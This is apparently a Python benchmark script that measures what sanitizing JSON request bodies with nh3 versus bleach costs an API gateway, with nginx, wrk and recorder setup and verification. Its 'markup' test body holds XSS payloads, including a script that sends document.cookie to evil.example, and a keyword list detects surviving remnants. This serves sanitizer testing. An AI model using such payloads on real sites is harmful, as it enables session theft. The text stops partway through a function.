"""What sanitizing JSON bodies costs the gateway per request: nh3 vs bleach vs none, on 4 KB bodies.

    python -m benchmarks.sanitize [--seconds 2] [--rounds 3] [--connections 32] [--warmup 1]

Everything runs on loopback and is started (and stopped) here: nginx answering every POST with a
small JSON (a small aiohttp server without nginx), a recording aiohttp server, and four gateways
(``python -m gateway run``), each its own process, on the same route:

    (a) no policies (the body streams through);
    (b) sanitize: {mode: strip, engine: nh3};
    (c) sanitize: {mode: strip, engine: bleach};
    (d) validate with a few field rules (email, max_length, type, number), as a reference for
        "read and parse the body" without an HTML engine.

Load: a 4 KB JSON product (name, description, tags, variants with notes, prices) POSTed by wrk
(a Lua script setting method, body, Content-Type; else a bundled aiohttp generator), in three
mixes: ``clean`` (no ``<`` anywhere: every string takes the sanitizer's fast path), ``markup``
(the description holds <b>, <script>, <img onerror>, a javascript: link) and ``mixed`` (9 clean
bodies then 1 markup body, rotated request by request). nginx echoes which body it was sent
(a request header) and the Content-Length it received, so every response tells whether the
upstream got the body as sent or rewritten; before any load, each gateway is also pointed at the
recording server once per body to check the upstream receives the cleaned body.

With taskset, wrk, nginx and the recorder share half the cores and the gateways the other half.
After a warm-up of each gateway (mixed bodies), the rounds run every body mix through (a), (b),
(c), (d) in turn (mixed: (a), (b), (c)), so the ratios (b)/(a), (c)/(a), (c)/(b) compare runs of
the same round. Gateway CPU per request comes from /proc. A table goes to the terminal and every
run to benchmarks/results/sanitize-<timestamp>.json.
"""

from __future__ import annotations

import argparse
import json
import os
import re
import signal
import statistics
import sys
import tempfile
import time
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

from benchmarks.common import (
    NGINX,
    ROOT,
    Processes,
    cores_busy,
    cpu_plan,
    cpu_seconds,
    findings_lines,
    fmt_ms,
    free_port,
    interrupt,
    load_benchmark_main,
    load_tool,
    log_findings,
    new_report,
    nginx_errors,
    run_load,
    say,
    spread,
    statuses_text,
    summed_counts,
    tear_down,
    wait_for_port,
)

PATH = "/bench"
RECORD_PATH = "/record"
VARIANT_HEADER = "X-Bench-Body"
TARGET_SIZE = 4096
MIXED = ["clean"] * 9 + ["markup"]  # the rotation of the mixed workload: 10% markup bodies
MIXES = {"clean": ["clean"], "markup": ["markup"], "mixed": MIXED}

VALIDATE_FIELDS = {
    "seller.email": {"format": "email", "required": True},
    "name": {"type": "string", "max_length": 200, "required": True},
    "description": {"type": "string", "max_length": 8000},
    "tags": {"type": "array", "max_length": 20},
    "price.amount": {"type": "number", "minimum": 0},
    "variants[].sku": {"type": "string", "max_length": 24},
}
POLICIES: dict[str, dict[str, Any]] = {
    "a": {},
    "b": {"sanitize": {"mode": "strip", "engine": "nh3"}},
    "c": {"sanitize": {"mode": "strip", "engine": "bleach"}},
    "d": {"validate": {"fields": VALIDATE_FIELDS}},
}
LABELS = {
    "a": "(a) passthrough",
    "b": "(b) sanitize nh3",
    "c": "(c) sanitize bleach",
    "d": "(d) validate",
}
SANITIZING = ("b", "c")
CONFIGS_FOR = {"clean": ("a", "b", "c", "d"), "markup": ("a", "b", "c", "d"), "mixed": ("a", "b", "c")}




# ---------------------------------------------------------------------------------------------
# Bodies
# ---------------------------------------------------------------------------------------------

SENTENCES = [
    "Built by hand in our Porto workshop from solid, FSC-certified white oak: no veneer, no MDF, no particle board anywhere.",
    "The two drawers are joined with hand-cut dovetails at the front and housed joints at the back, so they will outlast the rails they run on.",
    "Drawers glide on waxed oak runners rather than metal slides; they are quiet, and a little beeswax once a year keeps them smooth.",
    "The top is a single glued-up panel, 22 mm thick, with a soft 3 mm round-over on every edge & a slight chamfer underneath so it looks lighter than it is.",
    "We finish every piece with two coats of hardwax oil, rubbed in by hand: it is food-safe once cured, resists water rings for a few minutes and can be spot-repaired.",
    "Solid wood moves with the seasons, so the back panel floats in its groove and the top is fixed with buttons, never glue.",
    "Brass knobs are turned for us by a family foundry 40 km away; they will darken over time unless you polish them.",
    "Inside dimensions of each drawer: 38 x 30 x 9 cm, enough for books, chargers, glasses and the things that gather on a bedside.",
    "There is a 6 mm gap behind the drawers for cables, and a hidden notch in the back rail so a lamp cord can pass without lifting the piece.",
    "Every nightstand is signed and dated under the top drawer, and comes with a small card naming the tree's origin (usually Navarra or Galicia).",
    "Grain and colour vary from board to board: the photos show one piece, and yours will be its sibling rather than its twin.",
    "Arrives fully assembled, wrapped in recycled cardboard and wool felt; no plastic foam, no tools needed.",
    "Lead time is 5 to 10 working days because we make in small batches; if you need a pair, order them together so they come from the same boards.",
    "Returns within 30 days are free within the EU, and we repair anything that comes apart for as long as the workshop exists.",
    "Ratings from 212 buyers average 4.8 out of 5; the most common remark is that it is heavier and sturdier than expected (14.5 kg).",
    "Height 55 cm suits most beds with a mattress top between 50 and 65 cm; ask us for a taller version at no extra charge.",
    "Care: dust with a dry cloth, wipe spills at once, and keep it out of direct sun for the first few weeks while the oil cures.",
    "Pairs well with our oak bench and the low chest of drawers from the same series, cut from the same stock when ordered together.",
    "Questions about sizes, finishes or delivery to islands? Write to us; a person in the workshop answers within a day.",
    "Every offcut goes to a local school's woodworking class or to our stove, so nothing of the tree goes to waste.",
    "Price includes VAT and delivery to mainland Portugal and Spain; other regions pay a flat 35 EUR per parcel.",
]

MARKUP = (
    "<p>Our <b>best-selling</b> nightstand, now in <i>three</i> finishes.</p>"
    "<script>fetch('https://evil.example/c?'+document.cookie)</script>"
    '<img src="x" onerror="alert(document.domain)">'
    ' Read the <a href="javascript:alert(1)">reviews</a> before you buy. '
)


def product(description: str) -> dict[str, Any]:
    """A marketplace product as a seller's back office would POST it."""
    return {
        "id": "prd_8f3c2a91d4",
        "sku": "OAK-NST-2D-01",
        "name": "Handmade Oak Nightstand with Two Drawers",
        "slug": "handmade-oak-nightstand-two-drawers",
        "status": "active",
        "seller": {"id": "sel_20931", "name": "Hollow Pine Workshop", "email": "orders@hollowpine.example", "country": "PT", "rating": 4.8, "verified": True},
        "description": description,
        "short_description": "Solid white oak nightstand, two dovetailed drawers, hand-rubbed oil finish.",
        "tags": ["furniture", "bedroom", "nightstand", "solid wood", "white oak", "handmade", "dovetail", "oil finish", "scandinavian", "small space"],
        "categories": ["home/furniture/bedroom", "home/handmade"],
        "price": {"amount": 389.0, "currency": "EUR", "compare_at": 429.0, "tax_included": True},
        "variants": [
            {"sku": "OAK-NST-2D-NAT", "finish": "natural oil", "color": "natural", "price": 389.0, "stock": 4, "weight_kg": 14.5,
             "note": "Matte finish; shows the grain most."},
            {"sku": "OAK-NST-2D-SMK", "finish": "smoked oak", "color": "dark brown", "price": 419.0, "stock": 2, "weight_kg": 14.5,
             "note": "Fumed for a deep brown; each piece differs slightly."},
            {"sku": "OAK-NST-2D-WHT", "finish": "white wax", "color": "white", "price": 399.0, "stock": 0, "weight_kg": 14.6,
             "note": "Back in stock in about 3 weeks; pre-orders ship first."},
        ],
        "dimensions": {"width_cm": 45, "depth_cm": 38, "height_cm": 55, "drawer_inner_cm": [38, 30, 9]},
        "shipping": {"from": "Porto, PT", "lead_time_days": [5, 10], "regions": ["EU", "UK", "CH", "NO"], "flat_rate": 35.0, "fragile": False},
        "materials": ["white oak (FSC)", "hardwax oil", "brass knobs"],
        "images": [
            {"url": "https://cdn.hollowpine.example/p/oak-nst-2d/1.jpg", "alt": "Oak nightstand, front view"},
            {"url": "https://cdn.hollowpine.example/p/oak-nst-2d/2.jpg", "alt": "Open drawer showing the dovetails"},
        ],
        "created_at": "2024-11-02T09:14:00Z",
        "updated_at": "2025-01-18T16:40:12Z",
    }


def encode(document: Any) -> bytes:
    # How the gateway writes a body it changed, so only the rewritten strings differ in size.
    return json.dumps(document, ensure_ascii=False, separators=(",", ":")).encode("utf-8")


def fill(prefix: str) -> bytes:
    """The product with a description of ``prefix`` then as many whole sentences as fit in TARGET_SIZE bytes."""
    description = prefix.rstrip()
    for sentence in SENTENCES * 2:
        longer = f"{description} {sentence}".strip()
        if len(encode(product(longer))) > TARGET_SIZE:
            break
        description = longer
    return encode(product(description))


def bodies() -> dict[str, bytes]:
    return {"clean": fill(""), "markup": fill(MARKUP)}


def strings(value: Any) -> list[str]:
    """Every string value of a JSON document (keys are not sanitized unless ``keys: true``)."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, list):
        return [s for item in value for s in strings(item)]
    if isinstance(value, dict):
        return [s for item in value.values() for s in strings(item)]
    return []


def share(body_bytes: dict[str, bytes]) -> dict[str, Any]:
    """Strings (and requests) that go to the engine, i.e. hold a '<', per body and for each mix."""
    per_body = {}
    for name, raw in body_bytes.items():
        values = strings(json.loads(raw))
        engine = [s for s in values if "<" in s]
        per_body[name] = {"strings": len(values), "strings_with_lt": len(engine), "engine_chars": sum(map(len, engine)), "bytes": len(raw)}
    per_mix = {}
    for mix, order in MIXES.items():
        total = sum(per_body[name]["strings"] for name in order)
        engine = sum(per_body[name]["strings_with_lt"] for name in order)
        requests = sum(1 for name in order if per_body[name]["strings_with_lt"])
        per_mix[mix] = {
            "rotation": order, "strings": total, "strings_with_lt": engine, "string_share": engine / total,
            "requests": len(order), "requests_with_lt": requests, "request_share": requests / len(order),
        }
    return {"bodies": per_body, "mixes": per_mix}


# ---------------------------------------------------------------------------------------------
# Servers
# ---------------------------------------------------------------------------------------------


def nginx_config(scratch: Path, port: int) -> Path:
    """nginx answering every request (POST included) with a small JSON echoing the body variant and its length."""
    temp = scratch / "nginx-temp"
    temp.mkdir(exist_ok=True)
    answer = '{"ok":true,"v":"$http_x_bench_body","len":"$content_length"}'
    text = f"""
worker_processes 1;
pid {scratch}/nginx.pid;
error_log {scratch}/nginx-error.log warn;
events {{ worker_connections 4096; }}
http {{
    access_log off;
    client_body_temp_path {temp}/body;
    proxy_temp_path {temp}/proxy;
    fastcgi_temp_path {temp}/fastcgi;
    uwsgi_temp_path {temp}/uwsgi;
    scgi_temp_path {temp}/scgi;
    client_body_buffer_size 64k;
    client_max_body_size 1m;
    keepalive_requests 10000000;
    keepalive_timeout 75s;
    server {{
        listen 127.0.0.1:{port};
        location / {{
            default_type application/json;
            return 200 '{answer}';
        }}
    }}
}}
"""
    path = scratch / "nginx.conf"
    path.write_text(text)
    return path


def serve(port: int) -> None:
    """The aiohttp upstream: ``/record`` answers with what it received (body and headers); any
    other path with the small JSON nginx gives (the fallback upstream when nginx is missing)."""
    from aiohttp import web

    async def handle(request: web.Request) -> web.Response:
        data = await request.read()
        if request.path == RECORD_PATH:
            return web.json_response(
                {
                    "method": request.method,
                    "content_length": request.headers.get("Content-Length"),
                    "transfer_encoding": request.headers.get("Transfer-Encoding"),
                    "content_type": request.headers.get("Content-Type"),
                    "variant": request.headers.get(VARIANT_HEADER),
                    "received": len(data),
                    "body": data.decode("utf-8", "replace"),
                }
            )
        length = request.headers.get("Content-Length", "")
        text = json.dumps({"ok": True, "v": request.headers.get(VARIANT_HEADER, ""), "len": length}, separators=(",", ":"))
        return web.Response(text=text, content_type="application/json")

    app = web.Application(client_max_size=4 * 1024 * 1024)
    app.router.add_route("*", "/{tail:.*}", handle)
    try:
        import uvloop

        uvloop.install()
    except ImportError:
        pass
    web.run_app(app, host="127.0.0.1", port=port, access_log=None, print=None)


def gateway_config(port: int, upstream_port: int, recorder_port: int, policies: dict[str, Any]) -> dict[str, Any]:
    routes = [
        {"name": "bench", "match": {"path": PATH}, "upstream": "origin", **policies},
        {"name": "record", "match": {"path": RECORD_PATH}, "upstream": "recorder", **policies},
    ]
    return {
        "listen": {"host": "127.0.0.1", "port": port, "limits": {"drain_timeout": "1s"}},
        "workers": 1,
        "admin": False,
        "upstreams": {
            "origin": {"targets": [f"http://127.0.0.1:{upstream_port}"]},
            "recorder": {"targets": [f"http://127.0.0.1:{recorder_port}"]},
        },
        "routes": routes,
        "logging": {"level": "info", "format": "json", "access_log": False},
    }


def post(url: str, body: bytes, variant: str, timeout: float = 10.0) -> tuple[int, bytes]:
    request = urllib.request.Request(url, data=body, method="POST", headers={"Content-Type": "application/json", VARIANT_HEADER: variant})
    try:
        with urllib.request.urlopen(request, timeout=timeout) as response:  # noqa: S310 - loopback only
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


# ---------------------------------------------------------------------------------------------
# Load
# ---------------------------------------------------------------------------------------------

WRK_SCRIPT = r"""
-- POSTs the bodies of one mix in rotation; counts statuses and what the upstream echoed.
local files = {FILES}
local order = {ORDER}
local path = "PATH"
local requests = {}
local i = 0
local threads = {}
statuses = {}
tally = {}

function setup(thread) table.insert(threads, thread) end

function init(args)
  local built = {}
  for name, file in pairs(files) do
    local f = assert(io.open(file, "rb"))
    local body = f:read("*a")
    f:close()
    built[name] = wrk.format("POST", path, {["Content-Type"] = "application/json", ["VARIANT_HEADER"] = name}, body)
  end
  for k, name in ipairs(order) do requests[k] = built[name] end
end

function request()
  i = i % #requests + 1
  return requests[i]
end

function response(status, headers, body)
  statuses[status] = (statuses[status] or 0) + 1
  local key = "?"
  if body then
    local v, len = string.match(body, '"v":"([%w]*)","len":"(%d*)"')
    if v then key = v .. ":" .. len end
  end
  tally[key] = (tally[key] or 0) + 1
end

local function merge(name)
  local merged = {}
  for _, thread in ipairs(threads) do
    for key, n in pairs(thread:get(name)) do merged[key] = (merged[key] or 0) + n end
  end
  return merged
end

function done(summary, latency, requests)
  local parts = {}
  for status, n in pairs(merge("statuses")) do table.insert(parts, string.format('"%d":%d', status, n)) end
  local tallies = {}
  for key, n in pairs(merge("tally")) do table.insert(tallies, string.format('"%s":%d', key, n)) end
  local e = summary.errors
  io.write(string.format(
    'WRKJSON {"requests":%d,"duration_us":%d,"bytes":%d,' ..
    '"errors":{"connect":%d,"read":%d,"write":%d,"status":%d,"timeout":%d},' ..
    '"latency_us":{"mean":%.1f,"max":%d,"p50":%d,"p75":%d,"p90":%d,"p99":%d,"p999":%d},"statuses":{%s},"tally":{%s}}\n',
    summary.requests, summary.duration, summary.bytes, e.connect, e.read, e.write, e.status, e.timeout,
    latency.mean, latency.max, latency:percentile(50), latency:percentile(75), latency:percentile(90),
    latency:percentile(99), latency:percentile(99.9), table.concat(parts, ","), table.concat(tallies, ",")))
end
"""
TALLY_PATTERN = r'"v":"(\w*)","len":"(\d*)"'


def load_files(scratch: Path, body_files: dict[str, Path]) -> dict[str, tuple[Path, Path]]:
    """Per mix: (wrk Lua script, aiohttp-fallback spec)."""
    files = "{" + ", ".join(f'{name} = "{path}"' for name, path in body_files.items()) + "}"
    out = {}
    for mix, order in MIXES.items():
        script = scratch / f"{mix}.lua"
        script.write_text(
            WRK_SCRIPT.replace("{FILES}", files)
            .replace("{ORDER}", "{" + ", ".join(f'"{name}"' for name in order) + "}")
            .replace('"PATH"', json.dumps(PATH))
            .replace("VARIANT_HEADER", VARIANT_HEADER)
        )
        spec = scratch / f"{mix}.json"
        spec.write_text(json.dumps({
            "requests": [
                {"method": "POST", "headers": {"Content-Type": "application/json", VARIANT_HEADER: name}, "body_file": str(body_files[name])}
                for name in order
            ],
            "tally": TALLY_PATTERN,
        }))
        out[mix] = (script, spec)
    return out


# ---------------------------------------------------------------------------------------------
# Checks before load
# ---------------------------------------------------------------------------------------------

_TAG = re.compile(r"<[A-Za-z/!?]")


def verify(name: str, port: int, body_bytes: dict[str, bytes], findings: list[str]) -> dict[str, Any]:
    """Sends each body once through gateway ``name`` to the recorder and to nginx; checks what arrived."""
    out: dict[str, Any] = {}
    for variant, raw in body_bytes.items():
        status, answer = post(f"http://127.0.0.1:{port}{RECORD_PATH}", raw, variant)
        entry: dict[str, Any] = {"status": status}
        out[variant] = entry
        if status != 200:
            findings.append(f"verify {LABELS[name]} {variant}: the gateway answered {status}: {answer[:300]!r}")
            continue
        seen = json.loads(answer)
        received = seen["body"].encode("utf-8")
        entry.update({k: seen[k] for k in ("content_length", "transfer_encoding", "received", "content_type", "variant")})
        entry["identical"] = received == raw
        if seen["content_length"] is not None and int(seen["content_length"]) != seen["received"]:
            findings.append(f"verify {LABELS[name]} {variant}: Content-Length {seen['content_length']} but {seen['received']} bytes arrived")
        if seen["variant"] != variant:
            findings.append(f"verify {LABELS[name]} {variant}: the {VARIANT_HEADER} header did not reach the upstream ({seen['variant']!r})")
        must_change = name in SANITIZING and variant == "markup"
        if not must_change:
            if not entry["identical"]:
                findings.append(f"verify {LABELS[name]} {variant}: the upstream received a different body ({len(received)} bytes, sent {len(raw)})")
        else:
            sent = json.loads(raw)
            try:
                got = json.loads(received)
            except ValueError:
                findings.append(f"verify {LABELS[name]} markup: the upstream received invalid JSON: {received[:200]!r}")
                continue
            description = got.get("description", "")
            entry["description_head"] = description[:160]
            entry["description"] = description
            entry["upstream_bytes"] = len(received)
            problems = []
            if _TAG.search(description):
                problems.append("a tag survived")
            for word in ("script", "onerror", "javascript:", "document.cookie", "alert("):
                if word in description:
                    problems.append(f"{word!r} survived")
            for word in ("best-selling", "three", "reviews", SENTENCES[0][:40]):
                if word not in description:
                    problems.append(f"text {word!r} was lost")
            others = {k: v for k, v in sent.items() if k != "description"}
            if {k: v for k, v in got.items() if k != "description"} != others or list(got) != list(sent):
                problems.append("other fields (or their order) changed")
            if received == raw:
                problems.append("the body arrived unchanged")
            if problems:
                findings.append(f"verify {LABELS[name]} markup: " + "; ".join(problems) + f" — description: {description[:200]!r}")
        # The bench route, through nginx (or the aiohttp fallback): status and the echo wrk reads.
        status, echo = post(f"http://127.0.0.1:{port}{PATH}", raw, variant)
        found = re.search(TALLY_PATTERN, echo.decode("utf-8", "replace"))
        entry["bench_status"] = status
        entry["bench_echo"] = echo.decode("utf-8", "replace")[:200]
        if status != 200 or not found:
            findings.append(f"verify {LABELS[name]} {variant} via {PATH}: {status} {echo[:200]!r}")
        elif found.group(1) != variant or (entry.get("received") is not None and found.group(2) != str(entry["received"])):
            findings.append(f"verify {LABELS[name]} {variant} via {PATH}: upstream echoed {found.group(0)}, the recorder received {entry.get('received')} bytes")
    if name == "d":  # the rules do run: a bad email is refused before the upstream
        bad = json.loads(body_bytes["clean"])
        bad["seller"]["email"] = "orders at hollowpine"
        status, answer = post(f"http://127.0.0.1:{port}{RECORD_PATH}", encode(bad), "clean")
        out["invalid_email"] = {"status": status, "answer": answer[:300].decode("utf-8", "replace")}
        if status != 422:
            findings.append(f"verify {LABELS[name]}: a body with an invalid email got {status}, not 422: {answer[:200]!r}")
    return out


def engine_micro(body_bytes: dict[str, bytes], budget: float = 0.15) -> dict[str, Any]:
    """In-process CPU µs of the pieces: the markup description through each engine, and parsing + walking a clean body."""
    from gateway.body import JsonGuards, parse_json
    from gateway.policies.sanitize import walk
    from gateway.sanitizer import Cleaner

    description = json.loads(body_bytes["markup"])["description"]
    guards = JsonGuards()

    def timed(fn: Any) -> float:
        fn()
        count, started = 0, time.process_time()
        while (used := time.process_time() - started) < budget:
            fn()
            count += 1
        return used / count * 1e6

    out = {"description_chars": len(description)}
    for engine in ("nh3", "bleach"):
        cleaner = Cleaner(engine)
        out[f"{engine}_clean_description_us"] = timed(lambda: cleaner.clean(description))
    visit = lambda path, value: value  # noqa: E731 - the clean body has no '<': every string takes the fast path
    raw = body_bytes["clean"]
    out["parse_json_clean_body_us"] = timed(lambda: parse_json(raw, guards))
    document = parse_json(raw, guards)
    out["walk_and_compare_clean_body_us"] = timed(lambda: walk(document, "", visit, False) != document)
    return out


# ---------------------------------------------------------------------------------------------
# The run
# ---------------------------------------------------------------------------------------------


def expected_lengths(report: dict[str, Any]) -> dict[str, dict[str, str]]:
    """What nginx should echo as Content-Length, per gateway and body: the body as sent, or as rewritten."""
    sizes = {name: str(info["bytes"]) for name, info in report["share"]["bodies"].items()}
    out = {}
    for name in POLICIES:
        out[name] = dict(sizes)
        rewritten = report["verification"].get(name, {}).get("markup", {}).get("upstream_bytes")
        if name in SANITIZING:
            out[name]["markup"] = str(rewritten) if rewritten else "?"
    return out


def run(args: argparse.Namespace) -> dict[str, Any]:
    load_cores, server_cores = cpu_plan()
    scratch = Path(tempfile.mkdtemp(prefix="bench-sanitize-"))
    processes = Processes(scratch)
    body_bytes = bodies()
    environment = {"load_tool": load_tool(), "load_cores": load_cores, "gateway_cores": server_cores}
    report = new_report(
        "sanitize", args, environment,
        bodies={name: raw.decode("utf-8") for name, raw in body_bytes.items()}, share=share(body_bytes),
        configs={}, verification={}, runs=[],
    )  # fmt: skip
    try:
        import bleach
        import nh3

        report["environment"]["engines"] = {"nh3": getattr(nh3, "__version__", "?"), "bleach": bleach.__version__}
    except ImportError as exc:
        report["environment"]["engines"] = {"error": str(exc)}
    findings: list[str] = report["findings"]
    previous_term = signal.signal(signal.SIGTERM, interrupt)
    try:
        sizes = ", ".join(f"{n} {len(b)} B" for n, b in body_bytes.items())
        say(f"scratch {scratch}; load: {load_tool()}; cores: load/upstreams {load_cores or 'any'}, gateways {server_cores or 'any'}; bodies {sizes}")
        report["micro"] = engine_micro(body_bytes)
        micro = report["micro"]
        say(
            f"in-process: markup description ({micro['description_chars']} chars) nh3 {micro['nh3_clean_description_us']:.0f} µs, "
            f"bleach {micro['bleach_clean_description_us']:.0f} µs; clean body parse {micro['parse_json_clean_body_us']:.0f} µs + walk {micro['walk_and_compare_clean_body_us']:.0f} µs"
        )
        body_files = {}
        for name, raw in body_bytes.items():
            body_files[name] = scratch / f"body-{name}.json"
            body_files[name].write_bytes(raw)
        for path in (scratch, *body_files.values()):
            path.chmod(0o755 if path.is_dir() else 0o644)
        mixes = load_files(scratch, body_files)

        recorder_port = free_port()
        recorder = processes.start("recorder", [sys.executable, "-m", "benchmarks.sanitize", "serve", str(recorder_port)], load_cores, cwd=ROOT)
        if os.path.exists(NGINX):
            upstream_port = free_port()
            config = nginx_config(scratch, upstream_port)
            nginx = processes.start("nginx", [NGINX, "-c", str(config), "-p", str(scratch), "-e", str(scratch / "nginx-error.log"), "-g", "daemon off;"], load_cores)
            wait_for_port(upstream_port, nginx, processes, "nginx")
            report["environment"]["upstream"] = "nginx"
        else:
            upstream_port = recorder_port  # the recorder answers other paths as nginx would
            report["environment"]["upstream"] = "aiohttp"
        wait_for_port(recorder_port, recorder, processes, "recorder")
        say(f"{report['environment']['upstream']} on :{upstream_port}, recorder on :{recorder_port}")

        gateways = {}
        ports: dict[str, int] = {}
        for name, policies in POLICIES.items():
            port = free_port()
            config = gateway_config(port, upstream_port, recorder_port, policies)
            path = scratch / f"gateway-{name}.yaml"
            path.write_text(json.dumps(config, indent=2))  # JSON is YAML
            report["configs"][name] = config
            gateways[name] = processes.start(f"gateway-{name}", [sys.executable, "-m", "gateway", "run", "-c", str(path)], server_cores, cwd=ROOT)
            ports[name] = port
        for name, process in gateways.items():
            wait_for_port(ports[name], process, processes, f"gateway-{name}")
        for name in POLICIES:
            before = len(findings)
            report["verification"][name] = verify(name, ports[name], body_bytes, findings)
            v = report["verification"][name]
            markup = v.get("markup", {})
            extra = f"; markup body reached the upstream as {markup.get('upstream_bytes')} B: {markup.get('description_head', '')[:90]!r}…" if name in SANITIZING else ""
            say(
                f"verify {LABELS[name]}: clean {v['clean'].get('status')}/{'identical' if v['clean'].get('identical') else 'CHANGED'}, "
                f"markup {markup.get('status')}/{'identical' if markup.get('identical') else 'rewritten'}"
                + (f", invalid email {v['invalid_email']['status']}" if "invalid_email" in v else "")
                + extra + ("" if len(findings) == before else f" — {len(findings) - before} problem(s), see findings")
            )
        sanitized = {name: report["verification"][name].get("markup", {}).get("description") for name in SANITIZING}
        report["engines_agree"] = len(set(sanitized.values())) == 1 and None not in sanitized.values()
        say(f"nh3 and bleach {'wrote the same' if report['engines_agree'] else 'wrote different'} sanitized description")
        expected = expected_lengths(report)
        report["expected_upstream_lengths"] = expected

        def measure(name: str, mix: str, phase: str, round_: int | None, seconds: float) -> dict[str, Any]:
            pid = gateways[name].pid
            cpu_before, core_before = cpu_seconds(pid), cores_busy(server_cores)
            script, spec = mixes[mix]
            result = run_load(processes, f"http://127.0.0.1:{ports[name]}{PATH}", seconds, args.connections, load_cores, name="load", script=script, spec=spec)
            cpu = cpu_seconds(pid) - cpu_before
            core = cores_busy(server_cores) - core_before
            duration = result["duration_us"] / 1e6 if result["duration_us"] else 0.0
            tally = result.get("tally", {})
            by_variant: dict[str, int] = {}
            rewritten = unexpected = 0
            for key, count in tally.items():
                variant, _, length = key.partition(":")
                by_variant[variant] = by_variant.get(variant, 0) + count
                if variant in body_bytes and length != expected[name][variant]:
                    unexpected += count
                if variant in body_bytes and length != str(len(body_bytes[variant])):
                    rewritten += count
            answered = sum(tally.values())
            entry = {
                "config": name, "label": LABELS[name], "mix": mix, "phase": phase, "round": round_, **result,
                "gateway_cpu_s": cpu,
                "gateway_busy": cpu / duration if duration else None,
                "foreign_busy": max(core - cpu, 0.0) / duration / (len(server_cores) if server_cores else os.cpu_count() or 1) if duration else None,
                "gateway_cpu_us_per_request": cpu / result["requests"] * 1e6 if result["requests"] else None,
                "by_variant": by_variant,
                "markup_share": by_variant.get("markup", 0) / answered if answered else None,
                "rewritten_share": rewritten / answered if answered else None,
                "unexpected_upstream_length": unexpected,
                "loadavg": Path("/proc/loadavg").read_text().split()[0],
            }
            report["runs"].append(entry)
            lat = result["latency_us"]
            errors = {k: v for k, v in result["errors"].items() if v and k != "status"}
            say(
                f"{phase}{'' if round_ is None else f' {round_}/{args.rounds}'} {LABELS[name]:<20} {mix:<6}: {result['rps']:,.0f} req/s, "
                f"p50 {fmt_ms(lat['p50'])} ms, p99 {fmt_ms(lat['p99'])} ms, gateway {entry['gateway_cpu_us_per_request'] or 0:.0f} µs/req "
                f"(CPU {entry['gateway_busy'] or 0:.0%}, others on its core {entry['foreign_busy'] or 0:.0%}), statuses {statuses_text(result['statuses'])}"
                + (f", markup {entry['markup_share']:.1%}, rewritten upstream {entry['rewritten_share']:.1%}" if mix == "mixed" and entry["markup_share"] is not None else "")
                + (f", {unexpected} unexpected upstream lengths" if unexpected else "")
                + (f", socket errors {errors}" if errors else "")
            )
            return entry

        for name in POLICIES:
            measure(name, "mixed", "warmup", None, args.warmup)
        for round_ in range(1, args.rounds + 1):
            for mix, names in CONFIGS_FOR.items():
                for name in names:
                    measure(name, mix, "round", round_, args.seconds)

        for name in gateways:
            findings += log_findings(name, processes.log_text(f"gateway-{name}"))
            report.setdefault("gateway_logs", {})[name] = processes.log_text(f"gateway-{name}")[-5000:]
        findings += nginx_errors(scratch / "nginx-error.log")
        recorder_log = processes.log_text("recorder").strip()
        if recorder_log:
            findings.append(f"recorder log: {recorder_log[-500:]}")
    finally:
        tear_down(previous_term, processes, scratch, args.keep, findings)
    report["summary"] = summarise(report)
    findings += check(report)
    return report



# ---------------------------------------------------------------------------------------------
# Figures
# ---------------------------------------------------------------------------------------------


def summarise(report: dict[str, Any]) -> dict[str, Any]:
    runs = [run for run in report["runs"] if run["phase"] == "round"]
    cells: dict[str, Any] = {}
    for mix, names in CONFIGS_FOR.items():
        for name in names:
            mine = [run for run in runs if run["config"] == name and run["mix"] == mix]
            if not mine:
                continue
            statuses = summed_counts(run["statuses"] for run in mine)
            by_variant = summed_counts(run["by_variant"] for run in mine)
            answered = sum(by_variant.values())
            rewritten = sum((run["rewritten_share"] or 0) * sum(run["by_variant"].values()) for run in mine)
            cells[f"{name}/{mix}"] = {
                "config": name, "label": LABELS[name], "mix": mix, "runs": len(mine),
                "rps": spread([run["rps"] for run in mine]),
                "p50_ms": statistics.median(run["latency_us"]["p50"] for run in mine) / 1000,
                "p99_ms": statistics.median(run["latency_us"]["p99"] for run in mine) / 1000,
                "gateway_busy": statistics.median(run["gateway_busy"] or 0 for run in mine),
                "gateway_cpu_us_per_request": spread([run["gateway_cpu_us_per_request"] or 0 for run in mine]),
                "requests": sum(run["requests"] for run in mine),
                "statuses": dict(sorted(statuses.items())),
                "socket_errors": {k: sum(run["errors"][k] for run in mine) for k in ("connect", "read", "write", "timeout")},
                "by_variant": by_variant,
                "markup_share": by_variant.get("markup", 0) / answered if answered else None,
                "rewritten_share": rewritten / answered if answered else None,
                "unexpected_upstream_length": sum(run["unexpected_upstream_length"] for run in mine),
            }
    ratios: dict[str, Any] = {}
    pairs = {"b/a": ("b", "a"), "c/a": ("c", "a"), "c/b": ("c", "b"), "d/a": ("d", "a")}
    for mix in CONFIGS_FOR:
        by_round: dict[int, dict[str, dict[str, Any]]] = {}
        for run in runs:
            if run["mix"] == mix:
                by_round.setdefault(run["round"], {})[run["config"]] = run
        for key, (top, bottom) in pairs.items():
            rps = [r[top]["rps"] / r[bottom]["rps"] for r in by_round.values() if top in r and bottom in r and r[bottom]["rps"]]
            cpu = [
                r[top]["gateway_cpu_us_per_request"] / r[bottom]["gateway_cpu_us_per_request"]
                for r in by_round.values() if top in r and bottom in r and r[bottom]["gateway_cpu_us_per_request"]
            ]
            extra = [
                r[top]["gateway_cpu_us_per_request"] - r[bottom]["gateway_cpu_us_per_request"]
                for r in by_round.values() if top in r and bottom in r and r[bottom]["gateway_cpu_us_per_request"] is not None
            ]
            if rps:
                ratios.setdefault(mix, {})[key] = {
                    "rps": {"per_round": rps, **spread(rps)},
                    "cpu_us_per_request": {"per_round": cpu, **spread(cpu)},
                    "extra_cpu_us_per_request": {"per_round": extra, **spread(extra)},
                }
    return {"cells": cells, "ratios": ratios}


def check(report: dict[str, Any]) -> list[str]:
    """What does not look as it should."""
    findings = []
    cells = report["summary"]["cells"]
    for key, cell in cells.items():
        label = f"{cell['label']} {cell['mix']}"
        if set(cell["statuses"]) - {"200"}:
            findings.append(f"{label}: statuses other than 200: {cell['statuses']}")
        if any(cell["socket_errors"].values()):
            findings.append(f"{label}: socket errors {cell['socket_errors']}")
        if cell["unexpected_upstream_length"]:
            findings.append(f"{label}: {cell['unexpected_upstream_length']} responses where nginx saw a Content-Length other than expected ({report['expected_upstream_lengths'][cell['config']]})")
        if "?" in cell["by_variant"]:
